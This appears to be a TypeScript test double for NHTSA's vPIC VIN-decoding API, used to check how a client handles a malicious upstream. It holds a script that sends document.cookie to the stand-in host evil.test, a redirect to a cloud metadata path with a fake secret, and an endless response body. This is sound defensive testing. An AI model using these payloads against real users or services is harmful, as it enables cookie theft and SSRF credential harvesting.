import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { VPIC_ERRORS } from '@vr/contracts';
import { listenOnLoopback } from './loopback.ts';

/** vPIC's own Message for a decode. */
export const VPIC_DECODE_MESSAGE =
  'Results returned successfully. NOTE: Any missing decoded values should be interpreted as NHTSA does not have data on the specific variable. Missing value should be interpreted as blank';

/** What the double answers every request with, instead of vPIC's answer. */
export type VpicMisbehaviour =
  /** 302 to the "metadata" server next to it. */
  | 'redirect'
  /** A page of HTML with a script, as text/html. */
  | 'html'
  /** A vPIC-shaped JSON body that never ends, sent in chunks without a Content-Length. */
  | 'oversize'
  /** vPIC's shape, its records carrying field names vPIC never uses besides its own. */
  | 'odd-keys'
  /** JSON of another shape. */
  | 'not-vpic';

/** How the double answers one VIN of a decode (single or batch entry). */
export type VinBehaviour = 'slow' | 'fail' | 'garbage' | 'odd-shape';

export interface VpicDouble {
  /** Where to point VPIC_URL (vPIC's own base ends in /api). */
  url: string;
  /** Every request as it arrived: method, path with query, and the body of a POST. */
  requests: { method: string; url: string; body: string }[];
  /** Requests the "metadata" server (the redirect's target) received. */
  metadataHits(): number;
  misbehave(how: VpicMisbehaviour | null): void;
  /** Decode requests that named `vin`, single or in a batch. */
  calls(vin: string): number;
  close(): Promise<void>;
}

/** A record carrying names no vPIC answer has: markup, spaces, a prototype key. */
const ODD_RECORD = {
  Name: 'ABC',
  ManufacturerName: 'AMERICAN HONDA',
  '<script>alert(1)</script>': 'x',
  'a b': 'spaces',
  __proto__x: 'proto',
  InternalToken: 'should not travel',
};

/**
 * A loopback stand-in for NHTSA vPIC under `/api/vehicles/`, answering as vPIC's documentation
 * shows: `{ Count, Message, SearchCriteria, Results }` as JSON for GetParts and the other list
 * endpoints, a DecodeVinValues result per VIN (GET DecodeVinValues/{vin}, POST
 * DecodeVINValuesBatch/ with a form `DATA=vin[,year];...`), its model ending "(live)". Per VIN it
 * can be slow, fail, answer garbage or another shape; for every request it can misbehave as an
 * attacker controlling the upstream would.
 */
export async function startVpicDouble(
  options: { vins?: Record<string, VinBehaviour> } = {},
): Promise<VpicDouble> {
  const vins = options.vins ?? {};
  const requests: VpicDouble['requests'] = [];
  let misbehaviour: VpicMisbehaviour | null = null;

  let metadataHits = 0;
  const metadata = await listenOnLoopback(
    createServer((_req, res) => {
      metadataHits += 1;
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          Count: 1,
          Message: 'metadata',
          SearchCriteria: null,
          Results: [{ Name: 'iam-role-secret-AKIA0000' }],
        }),
      );
    }),
  );

  const server: Server = createServer((req, res) => {
    // Recorded on arrival: a client that gives up before the body is read was still asked.
    const request = { method: req.method ?? '', url: req.url ?? '', body: '' };
    requests.push(request);
    req.on('data', (chunk: Buffer) => (request.body += chunk.toString()));
    req.on('end', () => {
      if (misbehaviour) misbehave(misbehaviour, req, res);
      else answer(req, res, request.body);
    });
  });

  function misbehave(how: VpicMisbehaviour, req: IncomingMessage, res: ServerResponse): void {
    if (how === 'redirect') {
      res.writeHead(302, { location: `${metadata.url}/latest/meta-data/` }).end();
    } else if (how === 'html') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<html><script>document.location="https://evil.test/"+document.cookie</script>');
    } else if (how === 'oversize') {
      // Endless: a client that reads the whole body before judging its size never finishes.
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"Count":1,"Message":"big","SearchCriteria":null,"Results":[{"Name":"');
      const chunk = 'x'.repeat(64 * 1024);
      const more = () => {
        while (!res.destroyed) if (!res.write(chunk)) return void res.once('drain', more);
      };
      more();
    } else if (how === 'odd-keys' && /DecodeVinValues\//i.test(req.url ?? '')) {
      const vin = decodeURIComponent(/DecodeVinValues\/([^?]*)/i.exec(req.url ?? '')?.[1] ?? '');
      sendJson(res, 200, {
        Count: 1,
        Message: VPIC_DECODE_MESSAGE,
        SearchCriteria: `VIN:${vin}`,
        Results: [{ ...ODD_RECORD, ...decodeResult(vin, undefined) }],
      });
    } else if (how === 'odd-keys') {
      sendJson(res, 200, {
        Count: 1,
        Message: 'Results returned successfully',
        SearchCriteria: 'Type:565',
        Results: [{ ...ODD_RECORD, VehicleTypes: [{ Name: 'Car', '<b>': 'x' }] }],
      });
    } else {
      sendJson(res, 200, { data: [{ Name: 'ABC' }], ok: true });
    }
  }

  function answer(req: IncomingMessage, res: ServerResponse, body: string): void {
    const url = new URL(req.url ?? '/', 'http://double');
    const path = url.pathname;
    if (req.method === 'POST' && /^\/api\/vehicles\/DecodeVINValuesBatch\/?$/i.test(path)) {
      const data = new URLSearchParams(body).get('DATA') ?? '';
      const entries = data.split(';').filter((e) => e.trim() !== '');
      const results = entries.map((entry) => {
        const [vin = '', year] = entry.split(',');
        return decodeResult(vin.trim(), year);
      });
      return sendJson(res, 200, {
        Count: results.length,
        Message: VPIC_DECODE_MESSAGE,
        SearchCriteria: '',
        Results: results,
      });
    }
    const decode = /^\/api\/vehicles\/DecodeVinValues\/([^/]*)$/i.exec(path);
    if (decode) {
      const vin = decodeURIComponent(decode[1] ?? '');
      const behaviour = vins[vin];
      if (behaviour === 'slow') {
        const timer = setTimeout(() => sendJson(res, 200, {}), 5000);
        res.on('close', () => clearTimeout(timer));
        return;
      }
      if (behaviour === 'fail') return sendJson(res, 500, { Message: 'An error has occurred.' });
      if (behaviour === 'garbage') {
        res.writeHead(200, { 'content-type': 'application/json' });
        return void res.end('<html>not json');
      }
      if (behaviour === 'odd-shape') return sendJson(res, 200, { Count: 0, Results: [] });
      return sendJson(res, 200, {
        Count: 1,
        Message: VPIC_DECODE_MESSAGE,
        SearchCriteria: `VIN:${vin}`,
        Results: [decodeResult(vin, url.searchParams.get('modelyear') ?? undefined)],
      });
    }
    if (/^\/api\/vehicles\/GetParts\/?$/i.test(path)) {
      return sendJson(res, 200, {
        Count: 1,
        Message: 'Results returned successfully',
        SearchCriteria: `Type:${url.searchParams.get('type') ?? ''}`,
        Results: [
          {
            CoverLetterURL: '',
            LetterDate: '1/1/2015',
            ManufacturerId: 988,
            ManufacturerName: 'AMERICAN HONDA',
            ModelYearFrom: null,
            ModelYearTo: null,
            Name: 'ABC',
            Type: '565',
            URL: 'https://vpic.nhtsa.dot.gov/mid/home/displayfile/1',
          },
        ],
      });
    }
    sendJson(res, 404, { Message: 'Not found' });
  }

  const { url, close } = await listenOnLoopback(server);
  return {
    url,
    requests,
    metadataHits: () => metadataHits,
    misbehave: (how) => {
      misbehaviour = how;
    },
    calls: (vin) =>
      requests.filter(
        (r) =>
          r.url.includes(`/DecodeVinValues/${vin}?`) ||
          new URLSearchParams(r.body)
            .get('DATA')
            ?.split(';')
            .some((e) => e.split(',')[0] === vin),
      ).length,
    close: async () => {
      await close();
      await metadata.close();
    },
  };
}

function sendJson(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { 'content-type': 'application/json; charset=utf-8' });
  res.end(JSON.stringify(body));
}

/** vPIC's DecodeVinValues result for `vin`, a few variables filled; BodyClass null as vPIC may. */
function decodeResult(vin: string, modelYear: string | undefined): Record<string, unknown> {
  return {
    VIN: vin,
    Make: vin.startsWith('1N4') ? 'NISSAN' : 'HONDA',
    Model: vin.startsWith('1N4') ? 'Altima (live)' : 'Accord (live)',
    ModelYear: modelYear ?? '2003',
    ErrorCode: '0',
    ErrorText: VPIC_ERRORS.clean.text,
    BodyClass: null,
  };
}
